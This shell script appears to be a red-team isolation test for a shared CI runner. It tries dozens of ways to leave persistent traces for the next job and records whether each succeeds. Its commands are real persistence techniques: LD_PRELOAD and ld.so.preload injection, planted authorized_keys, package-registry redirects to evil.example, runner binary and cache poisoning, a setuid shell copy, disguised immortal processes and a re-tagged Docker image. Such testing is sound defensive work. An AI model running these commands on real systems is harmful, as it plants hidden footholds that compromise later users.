# The red team's first job: it tries every way it knows to leave something for the next tenant of
# its instance, and says for each whether it managed (planted), was refused (blocked) or had no
# means here (unavailable). Every name it makes carries the token, so the next job can look for it
# anywhere. Placeholders: @TOKEN@, @RESULTS@ (a directory the test reads before the release),
# @DOCKER_HOST@ (the engine jobs may use; empty: none).
set +e
T='@TOKEN@'
R='@RESULTS@'
root=$(cd "$RUNNER_WORKSPACE/../.." && pwd)
out="$R/attack"
: > "$out"
id -u > "$R/attacker-uid"
echo "$root" > "$R/runner-root"
record() { printf '%s\t%s\t%s\n' "$1" "$2" "$3" >> "$out"; }
# try NAME LEVEL COMMAND...: planted when the command succeeds.
try() {
  local name=$1 level=$2
  shift 2
  if ( "$@" ) > /dev/null 2>&1; then record "$name" "$level" planted; else record "$name" "$level" blocked; fi
}
# needs NAME LEVEL TOOL: unavailable when the machine lacks the tool the vector needs.
needs() { command -v "$3" > /dev/null 2>&1 || { record "$1" "$2" unavailable; return 1; }; }

# Files wherever the job may write.
try tmp-file user sh -c "echo $T > /tmp/$T-file"
try var-tmp-file user sh -c "echo $T > /var/tmp/$T-file"
try dev-shm-file user sh -c "echo $T > /dev/shm/$T-file"
try hidden-tree user sh -c "mkdir -p /tmp/.$T-hidden/.x && echo $T > /tmp/.$T-hidden/.x/.y"
try unreadable-dir user sh -c "mkdir /tmp/$T-locked && echo $T > /tmp/$T-locked/f && chmod 000 /tmp/$T-locked"
try deep-tree user python3 -c "
import os
os.chdir('/tmp'); os.mkdir('$T-deep'); os.chdir('$T-deep')
for _ in range(3000):
    os.mkdir('d'); os.chdir('d')
open('f', 'w').write('$T')"
try fifo user mkfifo "/tmp/$T-fifo"
try symlink-trap user ln -s /etc/shadow "/tmp/$T-link"
try setuid-copy user sh -c "cp /bin/sh /tmp/$T-suid && chmod 4755 /tmp/$T-suid"
try every-world-writable-dir user sh -c "
  n=0
  for d in \$(find / -xdev -type d -perm -0002 2>/dev/null | head -200) /dev/shm /var/tmp; do
    echo $T > \"\$d/.$T-ww\" 2>/dev/null && n=\$((n+1))
  done
  [ \$n -gt 0 ]"
try disk-fill user fallocate -l 256M "/tmp/$T-fill"

# The runner's own files and root.
try runner-root-file user sh -c "echo $T > '$root/$T-planted'"
try runner-env-preload user sh -c "echo 'LD_PRELOAD=/tmp/$T.so' >> '$root/.env'"
try runner-path user sh -c "echo '/tmp/$T-bin' >> '$root/.path'"
try job-started-hook user sh -c "
  printf '#!/bin/sh\necho ran > /tmp/$T-hook-ran\n' > /tmp/$T-hook.sh && chmod 755 /tmp/$T-hook.sh &&
  echo 'ACTIONS_RUNNER_HOOK_JOB_STARTED=/tmp/$T-hook.sh' >> '$root/.env'"
try runner-binary-replaced user sh -c "cp /bin/true '$root/bin/Runner.Listener'"
try runner-binary-added user sh -c "echo $T > '$root/bin/$T'"
try runner-script-changed user sh -c "echo '# $T' >> '$root/run.sh'"
try runner-diag-log user sh -c "mkdir -p '$root/_diag' && echo $T > '$root/_diag/Runner_$T.log'"
try actions-cache user sh -c "mkdir -p '$root/_work/_actions/actions/checkout/v4' && echo $T > '$root/_work/_actions/actions/checkout/v4/action.yml'"
try tool-cache user sh -c "mkdir -p '$root/_work/_tool/node/20.0.0/x64/bin' && printf '#!/bin/sh\necho $T\n' > '$root/_work/_tool/node/20.0.0/x64/bin/node'"
try workspace-leftover user sh -c "echo $T > \"\$GITHUB_WORKSPACE/$T-left\""

# The job user's home: shell start-up files and tools' configuration.
try bashrc-preload user sh -c "echo 'export LD_PRELOAD=/tmp/$T.so # $T' >> \"\$HOME/.bashrc\""
try profile user sh -c "echo '# $T' >> \"\$HOME/.profile\" && echo '# $T' >> \"\$HOME/.bash_profile\""
try gitconfig user sh -c "printf '[url \"https://evil.example/$T/\"]\n\tinsteadOf = https://github.com/\n' >> \"\$HOME/.gitconfig\""
try npmrc user sh -c "echo 'registry=https://evil.example/$T/' > \"\$HOME/.npmrc\""
try pip-conf user sh -c "mkdir -p \"\$HOME/.config/pip\" && printf '[global]\nindex-url = https://evil.example/$T/\n' > \"\$HOME/.config/pip/pip.conf\""
try python-sitecustomize user sh -c "d=\"\$HOME/.local/lib/python3/site-packages\"; mkdir -p \"\$d\" && echo '# $T' > \"\$d/sitecustomize.py\""
try ssh-authorized-keys user sh -c "mkdir -p \"\$HOME/.ssh\" && echo 'ssh-ed25519 AAAAC3Nza $T' >> \"\$HOME/.ssh/authorized_keys\""
try system-profile user sh -c "echo '# $T' >> /etc/profile"
try system-preload user sh -c "echo /tmp/$T.so >> /etc/ld.so.preload"

# Processes that outlive the job.
try process-setsid user sh -c "RUNNER_TRACKING_ID= setsid nohup sleep 3000 $T-setsid < /dev/null > /dev/null 2>&1 & sleep 0.2"
try process-double-fork-renamed user python3 -c "
import ctypes, os, sys, time
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): os._exit(0)
os.environ.pop('RUNNER_TRACKING_ID', None)
os.execvp('python3', ['python3', '-c', 'import ctypes, time; ctypes.CDLL(None).prctl(15, b\"kworker/0:9\", 0, 0, 0); time.sleep(3000)', '$T-renamed'])"
try process-ignores-sigterm user sh -c "escape() { RUNNER_TRACKING_ID= setsid nohup \"\$@\" < /dev/null > /dev/null 2>&1 & }; escape bash -c \"trap '' TERM HUP INT; while :; do sleep 1; done; : $T-noterm\"; sleep 0.2"
try process-respawner user sh -c "escape() { RUNNER_TRACKING_ID= setsid nohup \"\$@\" < /dev/null > /dev/null 2>&1 & }; escape bash -c 'while :; do sleep 0.3 & wait; done; : $T-respawn'; sleep 0.2"

# Kernel objects the job user owns.
needs sysv-shm user ipcmk && try sysv-shm user ipcmk -M 4096
needs sysv-sem user ipcmk && try sysv-sem user ipcmk -S 1
needs sysv-msg user ipcmk && try sysv-msg user ipcmk -Q
try posix-shm user python3 -c "import os; os.close(os.open('/dev/shm/$T-posix', os.O_CREAT | os.O_RDWR, 0o600))"
try posix-mqueue user python3 -c "
import ctypes, os, sys
rt = ctypes.CDLL('librt.so.1', use_errno=True)
sys.exit(0 if rt.mq_open(b'/$T-mq', os.O_CREAT | os.O_RDWR, 0o644, None) >= 0 else 1)"
try user-keyring user python3 -c "
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
sys.exit(0 if libc.syscall(248, b'user', b'$T-key', b'secret', 6, -4) > 0 else 1)"

# Schedulers and session managers.
needs crontab user crontab && try crontab user sh -c "echo '* * * * * echo $T > /tmp/$T-cron' | crontab -"
needs at-job user at && try at-job user sh -c "echo 'echo $T > /tmp/$T-at' | at now + 2 minutes"
needs systemd-user-timer user systemd-run && try systemd-user-timer user systemd-run --user --on-active=60 touch "/tmp/$T-timer"
needs linger user loginctl && try linger user loginctl enable-linger

# The machine itself.
needs clock user date && try clock user date -s '2001-01-01 00:00:00'
needs hostname user hostname && try hostname user hostname "$T"

# Through the Docker engine (job_privileges = docker: root on the machine in effect). Blocked where
# the job user has no engine; the file written as root through a bind mount is beyond any cleaning.
export DOCKER_HOST='@DOCKER_HOST@'
[ -n "$DOCKER_HOST" ] || unset DOCKER_HOST
docker_vectors="docker-build docker-image docker-container docker-volume docker-network docker-root-file"
if ! command -v docker > /dev/null 2>&1; then
  for v in $docker_vectors; do record "$v" docker unavailable; done
elif ! docker version > /dev/null 2>&1; then
  for v in $docker_vectors; do record "$v" docker blocked; done
else
  ctx=$(mktemp -d)
  printf 'FROM ubuntu:latest\nRUN ["/bin/busybox", "touch", "/%s"]\n' "$T" > "$ctx/Dockerfile"
  try docker-build docker env DOCKER_BUILDKIT=0 docker build -q --network none -t "$T-built" "$ctx"
  try docker-image docker sh -c "tar -cf - -C '$ctx' Dockerfile | docker import - '$T-poison' && docker tag '$T-poison' ubuntu:latest"
  try docker-container docker docker run -d --restart always --network none --name "$T-ctr" "$T-built" /bin/busybox sleep 100000
  try docker-volume docker docker volume create "$T-vol"
  try docker-network docker docker network create --internal "$T-net"
  try docker-root-file docker docker run --rm --network none -v /tmp:/t "$T-built" /bin/busybox touch "/t/$T-root"
  rm -rf "$ctx"
fi
exit 0
